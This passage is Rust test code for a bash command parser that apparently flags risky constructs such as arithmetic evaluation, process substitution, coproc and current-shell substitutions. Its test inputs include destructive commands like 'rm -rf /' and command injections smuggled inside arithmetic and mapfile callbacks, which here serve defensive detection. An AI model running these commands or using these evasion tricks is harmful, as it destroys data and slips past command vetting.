            "echo $(( a${x:-[}\\$(touch /tmp/p)] ))",
            &["echo"],
            &[ArithmeticEval],
        );
        // Numbers and operators alone, plain names given to builtins, and words bash does not
        // evaluate.
        for line in [
            "echo $((1 + 2 * 0x1f - 16#ff % 64#@_))",
            "((2 > 1))",
            "echo $[ 1 + 2 ]",
            "let 1+1",
            "echo ${s:1:2} ${s: -1} ${x:-y} ${x:=z} ${a[0]} ${a[@]} ${#a[*]} ${!p*} ${!a[@]}",
            "echo ${x#a} ${x/b/c} ${#x} ${#} ${x:+w}",
            "a[0]=1",
            "declare x=$y",
            "declare -i n=3",
            "local a=(1 2)",
            "a=([0]=x [1]=$y)",
            "[[ 1 -eq 2 ]]",
            "[[ $# -eq 0 || $? -ne 1 ]]",
            "[[ ${#a[@]} -gt ${#x} ]]",
            "echo $(( $$ % 2 ))",
            "[[ $x == y ]]",
            "[[ -v x ]]",
            "test -v x",
            "[ \"$x\" -eq 1 ]",
            "unset x",
            "printf -v x %s \"$y\"",
            "read -r -p \"$prompt\" line",
            "mapfile -t lines",
            "grep 'x[a-z]' f",
            "echo a[i] $x",
        ] {
            assert!(!p(line).flags.contains(&ArithmeticEval), "{line}");
        }
        // `mapfile -C` evaluates its callback.
        check(
            "mapfile -C 'rm -rf /srv' -c 1 x < f",
            &["mapfile", "rm"],
            &[Eval],
        );
        assert_eq!(
            serde_json::to_string(&ArithmeticEval).unwrap(),
            "\"arithmetic_eval\""
        );
    }

    #[test]
    fn process_substitutions_anywhere_in_a_conditional_word_run() {
        check(
            "uptime; [[ x<(rm -rf /) ]]",
            &["uptime", "rm"],
            &[CommandSubstitution],
        );
        check("[[ x>(rm) ]]", &["rm"], &[CommandSubstitution]);
        check("[[ -n a\"b\"<(rm) ]]", &["rm"], &[CommandSubstitution]);
        check("[[ a == b<(rm) ]]", &["rm"], &[CommandSubstitution]);
        // Comparisons stay comparisons; quoted text stays text.
        check("[[ a < b && c>d ]]", &[], &[]);
        check("[[ 'x<(rm)' == \"y>(rm)\" ]]", &[], &[]);
    }

    #[test]
    fn bash_5_3_command_substitutions_in_the_current_shell_are_refused() {
        for line in [
            "echo ${ rm -rf /; }",
            "echo ${| rm -rf /; }",
            "echo \"${\trm; }\"",
            "echo ${\nrm\n}",
            "true || echo ${ #}; rm -f F; {\n:\n}",
        ] {
            assert!(parse(line).is_err(), "{line:?}");
        }
        check("echo ${x} ${x:- y}", &["echo"], &[]);
    }

    #[test]
    fn coproc_runs_the_command_that_follows() {
        check("coproc rm -rf /srv/data", &["coproc", "rm"], &[Background]);
        check(
            "coproc { rm -rf /srv/data; }",
            &["coproc", "rm"],
            &[Background],
        );
        check("coproc NAME { rm x; }", &["coproc", "rm"], &[Background]);
        check("coproc NAME ( rm x )", &["coproc", "rm"], &[Background]);
        check(
            "coproc w while true; do rm; done",
            &["coproc", "true", "rm"],
            &[Background],
        );
        check(
            "coproc sudo rm x",
            &["coproc", "sudo", "rm"],
            &[Background, Sudo],
        );
        check("coproc >f rm x", &["coproc", "rm"], &[Background]);
        // Before a simple command there is no NAME: the word is the program.
        let c = p("coproc NAME rm x");
        assert_eq!(c.commands[1].program, "NAME");
        assert_eq!(c.commands[1].args, ["rm", "x"]);
        check("echo coproc rm", &["echo"], &[]);
        check(
            "ls; coproc rm; ls",
            &["ls", "coproc", "rm", "ls"],
            &[Background],
        );
        assert!(parse("coproc").is_err());
    }
}
